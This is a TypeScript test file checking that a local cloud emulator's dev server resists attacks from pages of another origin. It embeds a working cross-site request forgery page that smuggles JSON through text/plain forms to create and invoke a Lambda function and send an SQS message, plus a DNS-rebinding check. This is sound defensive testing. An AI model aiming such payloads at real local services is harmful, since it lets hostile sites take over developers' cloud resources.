import { GetFunctionCommand, LambdaClient, ListFunctionsCommand } from '@aws-sdk/client-lambda'
import { GetQueueAttributesCommand, SQSClient } from '@aws-sdk/client-sqs'
import { zipSync } from 'fflate'
import { expect, it } from 'vitest'
import { FREE_PORTS, makeFolder, startCommand } from '../cli/start-command.ts'
import { REBOUND_HOST, showAddress, visitPage } from './visit-page.ts'

const SIGNED = 'X-Amz-Credential=a/20261128/us-east-1/lambda/aws4_request'

/** What the attacker's page would have the cloud create, as a form can say it: one field, whose name and value are the body. */
function createFunctionBody(): { readonly name: string; readonly value: string } {
  const code = zipSync({ 'index.mjs': Buffer.from('export const handler = () => "taken over"') })
  const body = JSON.stringify({
    FunctionName: 'evil',
    Role: 'arn:aws:iam::000000000000:role/dev-LP-Role',
    Runtime: 'nodejs24.x',
    Handler: 'index.handler',
    Code: { ZipFile: Buffer.from(code).toString('base64') },
    Description: '=',
  })
  const cut = body.indexOf('=')
  return { name: body.slice(0, cut), value: body.slice(cut + 1) }
}

const escape = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

const html = (endpoint: string): string => {
  const { name, value } = createFunctionBody()
  const form = (id: string, path: string, field: string): string =>
    `<iframe name="${id}"></iframe><form id="f-${id}" target="${id}" method="post" enctype="text/plain" action="${escape(endpoint + path)}">${field}</form>`
  return `<!doctype html>
${form('create', '/2015-03-31/functions', `<input name="${escape(name)}" value="${escape(value)}">`)}
${form('signed', `/2015-03-31/functions?${SIGNED}`, `<input name="${escape(name)}" value="${escape(value)}">`)}
${form('invoke', '/2015-03-31/functions/evil/invocations', '<input name="{}" value="">')}
<script>
const answered = (id) => new Promise((resolve) => { document.getElementsByName(id)[0].addEventListener('load', resolve, { once: true }) })
const send = (id) => { const loaded = answered(id); document.getElementById('f-' + id).submit(); return loaded }
const ask = (label, url, options) => fetch(url, options).then(
  async (answer) => label + '=' + answer.type + answer.status + encodeURIComponent(await answer.text()),
  () => label + '=failed')
const run = async () => {
  for (const id of ['create', 'signed', 'invoke']) await send(id)
  const purge = '/?Action=SendMessage&QueueUrl=' + encodeURIComponent('${endpoint}/000000000000/dev-HP') + '&MessageBody=x&X-Amz-Credential=a/20261128/us-east-1/sqs/aws4_request'
  await new Promise((resolve) => { const image = new Image(); image.onload = image.onerror = resolve; image.src = '${endpoint}' + purge })
  const seen = [
    await ask('nocors', '${endpoint}' + purge, { method: 'POST', mode: 'no-cors', body: 'x' }),
    await ask('cors', '${endpoint}/_localstack/health'),
  ]
  await fetch('/done?' + seen.join('&'))
}
run()
</script>`
}

it('a page of another origin creates nothing, runs nothing and reads nothing', { timeout: 120_000 }, async () => {
  await using folder = await makeFolder()
  await using dev = startCommand(['dev', '--no-samples', ...FREE_PORTS], folder.path)
  await dev.until(/Ctrl-C stops/)
  const [endpoint = ''] = await dev.until(/(?<=^cloud +)\S+/m)
  const settings = { region: 'us-east-1', endpoint, credentials: { accessKeyId: 'test', secretAccessKey: 'test' } }
  const lambda = new LambdaClient(settings)
  const sqs = new SQSClient(settings)
  const names = async () =>
    (await lambda.send(new ListFunctionsCommand({}))).Functions?.map((each) => each.FunctionName)
  const before = await names()

  const asked = await visitPage({ html: html(endpoint), lastPath: '/done' })

  expect(asked.at(-1)).toBe('/done?nocors=opaque0&cors=failed')
  await expect(lambda.send(new GetFunctionCommand({ FunctionName: 'evil' }))).rejects.toMatchObject({
    name: 'ResourceNotFoundException',
  })
  expect(await names()).toEqual(before)
  const QueueUrl = `${endpoint}/000000000000/dev-HP`
  const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl, AttributeNames: ['All'] }))
  expect(Attributes).toMatchObject({
    ApproximateNumberOfMessages: '0',
    ApproximateNumberOfMessagesNotVisible: '0',
  })
  expect(dev.output).not.toContain('dead letter')
  lambda.destroy()
  sqs.destroy()

  const health = (host: string): string => `${endpoint.replace('127.0.0.1', host)}/_localstack/health`
  expect(await showAddress(health('localhost'))).toContain('running')
  // A name of the attacker's that leads here: a page under it would be of the same origin.
  const rebound = await showAddress(health(REBOUND_HOST))
  expect(rebound).toContain(`not known as "${REBOUND_HOST}`)
  expect(rebound).not.toContain('running')
})
